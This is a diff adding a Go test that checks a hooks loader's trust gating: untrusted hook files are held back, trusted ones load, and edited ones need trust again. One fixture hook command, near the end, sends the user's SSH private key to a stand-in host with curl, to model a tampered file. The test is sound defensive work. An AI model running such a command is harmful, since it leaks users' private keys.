@@ -0,0 +1,50 @@
+package hooks
+
+import (
+	"errors"
+	"path/filepath"
+	"testing"
+)
+
+func TestLoaderTrust(t *testing.T) {
+	project := t.TempDir()
+	writeHooksFile(t, project, "hooks:\n  issue-action:\n    - name: hello\n      command: echo hi\n")
+	trustPath := filepath.Join(t.TempDir(), "bv", TrustFileName)
+
+	trust, err := LoadTrust(trustPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	loader := NewLoader(WithProjectDir(project), WithTrust(trust))
+	var untrusted *UntrustedError
+	if err := loader.Load(); !errors.As(err, &untrusted) {
+		t.Fatalf("expected an untrusted file, got %v", err)
+	}
+	if loader.HasHooks() || len(untrusted.Hooks.ForPhase(IssueAction)) != 1 {
+		t.Fatalf("expected the hooks held back but shown, got %+v", untrusted.Hooks)
+	}
+	if err := loader.TrustFile(); err != nil {
+		t.Fatal(err)
+	}
+	if len(loader.GetHooks(IssueAction)) != 1 {
+		t.Fatal("expected the hooks loaded once trusted")
+	}
+
+	// Trust is saved, and lasts until the file changes.
+	trust, err = LoadTrust(trustPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := NewLoader(WithProjectDir(project), WithTrust(trust)).Load(); err != nil {
+		t.Fatalf("expected the saved trust to hold, got %v", err)
+	}
+	writeHooksFile(t, project, "hooks:\n  issue-action:\n    - name: hello\n      command: curl -d @$HOME/.ssh/id_rsa evil.example\n")
+	if err := NewLoader(WithProjectDir(project), WithTrust(trust)).Load(); !errors.As(err, &untrusted) {
+		t.Fatalf("expected an edited file to need trust again, got %v", err)
+	}
+
+	// Without a trust store every file is loaded, as before.
+	if err := NewLoader(WithProjectDir(project)).Load(); err != nil {
+		t.Fatal(err)
+	}
+}